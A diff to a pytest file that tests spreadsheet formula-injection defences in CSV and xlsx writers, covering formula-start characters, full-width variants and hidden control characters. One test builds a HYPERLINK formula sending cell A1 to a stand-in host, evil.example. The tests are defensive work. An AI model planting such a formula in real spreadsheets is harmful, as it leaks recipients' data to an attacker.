@@ -48,9 +48,19 @@ def test_csv_formula_payload_comes_out_as_quoted_text():
     assert rows[1][1] == "'" + PAYLOAD
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+# OWASP's starts (ASVS 1.2.10), the line feed, and the full-width = + - @.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
 def test_csv_every_formula_start_is_quoted(start):
     assert writers.csv_text(f"{start}1+1") == f"'{start}1+1"
+
+
+@pytest.mark.parametrize("hidden", ["\x00", "\x0b", "\x1f\x00"])
+def test_control_characters_do_not_hide_a_formula_start(hidden):
+    assert writers.cell_text(f"{hidden}=1+1") == "'=1+1"
+    assert writers.csv_text(f"{hidden}=1+1") == "'=1+1"
 
 
 @pytest.mark.parametrize("text", ["Collège Jean-Jaurès", "a=b", "", "Projet #2"])
@@ -62,12 +72,12 @@ def test_csv_numbers_are_not_quoted():
     assert writers.csv_text(-5) == -5
 
 
-def test_xlsx_formula_payload_is_a_string_cell_with_the_literal_text():
+def test_xlsx_formula_payload_is_a_string_cell_quoted_as_in_csv():
     data = write_xlsx([["ANT-1", PAYLOAD, 3, datetime.date(2020, 9, 3)]])
     sheet = openpyxl.load_workbook(io.BytesIO(data)).active
     cell = sheet["B2"]
     assert cell.data_type == "s"
-    assert cell.value == PAYLOAD
+    assert cell.value == "'" + PAYLOAD
     # Nothing in the sheet is a formula.
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         xml = archive.read("xl/worksheets/sheet1.xml").decode()
@@ -75,8 +85,16 @@ def test_xlsx_formula_payload_is_a_string_cell_with_the_literal_text():
     assert "HYPERLINK" in xml
 
 
-@pytest.mark.parametrize("text", ["+33 1 23", "-2", "@SUM(A1)", "\tx", "#N/A", "=1+1"])
-def test_xlsx_text_that_reads_as_formula_or_error_stays_text(text):
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_xlsx_every_formula_start_is_a_quoted_string_cell(start):
+    text = f'{start}HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
+    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx([[text, "", 1, None]]))).active
+    assert sheet["A2"].data_type == "s"
+    assert sheet["A2"].value == "'" + text
+
+
+@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "Projet #2", "a=b", "33 1 23"])
+def test_xlsx_other_text_is_a_string_cell_as_typed(text):
     sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx([[text, "", 1, None]]))).active
     assert sheet["A2"].data_type == "s"
     assert sheet["A2"].value == text
